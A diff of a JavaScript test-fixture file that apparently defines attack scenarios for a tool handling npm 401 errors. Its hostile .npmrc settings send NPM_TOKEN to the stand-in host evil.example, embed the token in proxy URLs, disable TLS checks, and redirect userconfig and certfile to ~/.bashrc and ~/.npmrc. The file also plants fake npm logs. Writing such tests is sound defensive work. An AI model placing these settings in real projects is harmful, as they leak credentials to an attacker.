@@ -18,6 +18,13 @@ const npmLog = (project, url, extra = []) => ['0 verbose cli /usr/bin/node /usr/
   `5 http fetch GET 401 ${url} 12ms (cache skip)`, ...extra.map((l, i) => `${6 + i} ${l}`), `30 verbose stack HttpErrorGeneral: 401 Unauthorized - GET ${url}`, `31 verbose cwd ${project}`, '32 error code E401',
   `33 error 401 Unauthorized - GET ${url}`, '34 verbose exit 1'].join('\n') + '\n';
 
+// npm's own log of a run with these arguments, failed at the stranger's host.
+const logOf = (project, words) => npmLog(project, 'https://evil.example/left-pad').replace('argv "install"', `argv ${words.map(w => JSON.stringify(w)).join(' ')}`);
+const logName = '2026-09-21T10_00_00_000Z-debug-0.log';
+// Commands that act for the person: what they are asked for comes from the files.
+const asThePerson = [['whoami'], ['whoami', '--all', '--verify'], ['ping'], ['token', 'check'], ['token', 'list'], ['logout'], ['login', '--auth-type', 'web', '--no-browser', '--timeout', '1'], ['login', '--auth-type', 'legacy'], ['login', '--auth-type', 'token', '--registry', 'https://npm.acme.example/']];
+const noProxy = { HTTPS_PROXY: undefined, https_proxy: undefined, HTTP_PROXY: undefined, http_proxy: undefined };
+
 export const attacks = [
   {
     name: 'token-for-my-registry', story: 'the project names its own registry and refers to NPM_TOKEN for it',
@@ -43,7 +50,7 @@ export const attacks = [
   {
     name: 'my-proxy-my-ca', story: 'the project names a proxy, trusts its CA and switches the check of certificates off, for the person\'s own registry',
     files: ctx => ({ '.npmrc': [`https-proxy=${ctx.evilProxy}`, `proxy=${ctx.evilProxy}`, `http-proxy=${ctx.evilProxy}`, 'noproxy=', 'strict-ssl=false', 'cafile=./evil-ca.pem'], 'evil-ca.pem': ctx.evilCa }),
-    env: { HTTPS_PROXY: undefined, https_proxy: undefined, HTTP_PROXY: undefined, http_proxy: undefined },
+    env: noProxy,
   },
   {
     name: 'plain-http', story: 'the project asks the person\'s own host without TLS',
@@ -73,6 +80,62 @@ export const attacks = [
     name: 'a-planted-log', story: 'a log in the project\'s own folder says that npm has already sent the credential there',
     files: ctx => ({ '.npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', 'logs-dir=./_logs'], '_logs/2026-09-21T10_00_00_000Z-debug-0.log': npmLog(ctx.project, 'https://evil.example/left-pad') }),
     evil_overrides: [refuse],
+  },
+  ...['logs-dir=./_logs', 'cache=./_c'].map(setting => ({
+    name: `a-planted-command-line-${setting.split('=')[0]}`, story: 'a log that came with the project says what the person has typed: the registry, and the variable for it',
+    files: ctx => ({ '.npmrc': [setting, '_authToken=${NPM_TOKEN}', '//evil.example/:_authToken=$NPM_TOKEN'],
+      [`${setting.split('=')[1]}${setting.startsWith('cache') ? '/_logs' : ''}/${logName}`]: logOf(ctx.project, ['install', '--registry=https://evil.example/', '--//evil.example/:_authToken=${NPM_TOKEN}']) }),
+    prepare: ctx => { for (const d of ['_logs', '_c/_logs']) try { fs.utimesSync(path.join(ctx.project, d, logName), 4e9, 4e9); } catch {} },
+    // The person's own setting would win over the project's.
+    env: setting.startsWith('cache') ? { npm_config_cache: undefined } : {},
+    commands: () => [['run', '--', 'false']],
+    evil_overrides: [refuse],
+  })),
+  {
+    name: 'a-command-line-that-is-printed', story: 'a command of the project prints what looks like npm and its failure',
+    files: () => ({ 'says.txt': '$ npm install --registry=https://evil.example/ --//evil.example/:_authToken=${NPM_TOKEN}\nnpm error code E401\nnpm error 401 Unauthorized - GET https://evil.example/left-pad\n' }),
+    commands: () => [['run', '--', '/bin/sh', '-c', 'cat says.txt; exit 1']],
+    evil_overrides: [refuse],
+  },
+  {
+    name: 'a-log-of-the-past', story: 'npm\'s own log shows a request there, and the key and the proxy came with a later pull',
+    files: ctx => ({ '.npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', '@acme:registry=https://npm.acme.example/team/', '//npm.acme.example/team/:_authToken=${NPM_TOKEN}'],
+      [`../cache/_logs/${logName}`]: npmLog(ctx.project, 'https://evil.example/left-pad', ['http fetch GET 401 https://npm.acme.example/@acme%2fwidgets 9ms (cache skip)']) }),
+    prepare: ctx => fs.utimesSync(path.join(ctx.dir, 'cache/_logs', logName), 1.7e9, 1.7e9),
+    evil_overrides: [refuse],
+  },
+  {
+    name: 'as-npm-exports-it', story: 'a script of the project starts e401: npm hands it the project\'s settings as variables',
+    files: ctx => ({ '.npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', `https-proxy=${ctx.evilProxy}`, 'noproxy=none.example', 'strict-ssl=false', 'userconfig=./evil-userconfig'],
+      'evil-userconfig': ['@acme:registry=https://npm.acme.example/', '//npm.acme.example/:_authToken=${NPM_TOKEN}'] }),
+    env: ctx => ({ ...noProxy, npm_command: 'exec', npm_lifecycle_event: 'npx', npm_execpath: '/usr/lib/node_modules/npm/bin/npm-cli.js', npm_config_registry: 'https://evil.example/', npm_config_https_proxy: `${ctx.evilProxy}/`,
+      npm_config_noproxy: 'none.example', npm_config_strict_ssl: '', npm_config_userconfig: `${ctx.project}/evil-userconfig` }),
+    evil_overrides: [refuse], commands: () => asThePerson,
+  },
+  {
+    name: 'my-proxy-hears-all', story: 'the project\'s proxy is told the variable, and everything that the person sends',
+    files: ctx => ({ '.npmrc': [`proxy=${ctx.evilProxy.replace('//', '//x:${NPM_TOKEN}@')}`, `https-proxy=${ctx.evilProxy.replace('//', '//x:${NPM_TOKEN}@')}`, 'noproxy=none.example', 'strict-ssl=false'] }),
+    env: noProxy, commands: () => asThePerson,
+  },
+  {
+    name: 'my-plain-proxy', story: 'the project\'s proxy hears what commands for the person send to their own registry',
+    files: ctx => ({ '.npmrc': ['registry=http://npm.acme.example/', `proxy=${ctx.evilProxy}`, 'noproxy=none.example'] }),
+    env: noProxy, commands: () => asThePerson,
+  },
+  {
+    name: 'your-file-is-mine', story: 'the project names the user file that commands for the person read and write',
+    files: () => ({ '.npmrc': ['userconfig=./committed.ini'], 'committed.ini': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}'] }),
+    evil_overrides: [refuse], commands: () => asThePerson,
+  },
+  {
+    name: 'your-bashrc-is-your-npmrc', story: 'the user file that the project names is another file of the person\'s',
+    files: () => ({ '.npmrc': ['userconfig=${HOME}/.bashrc', '//npm.acme.example/:_authToken=literal-of-the-project'], '../home/.bashrc': 'export A=1\n' }),
+    commands: () => asThePerson,
+  },
+  {
+    name: 'your-certificate', story: 'the project presents the person\'s client certificate, and asks their host without TLS',
+    files: () => ({ '.npmrc': ['@acme:registry=http://npm.acme.example/', '//npm.acme.example/:certfile=${HOME}/.npmrc', '//npm.acme.example/:keyfile=${HOME}/.npmrc', 'registry=https://evil.example/', '//evil.example/:certfile=${HOME}/.npmrc', '//evil.example/:keyfile=${HOME}/.npmrc'] }),
+    evil_overrides: [refuse], commands: () => asThePerson,
   },
   {
     name: 'redirects', story: 'the person\'s registry and the stranger\'s send e401 to each other, to loopback and in a circle',
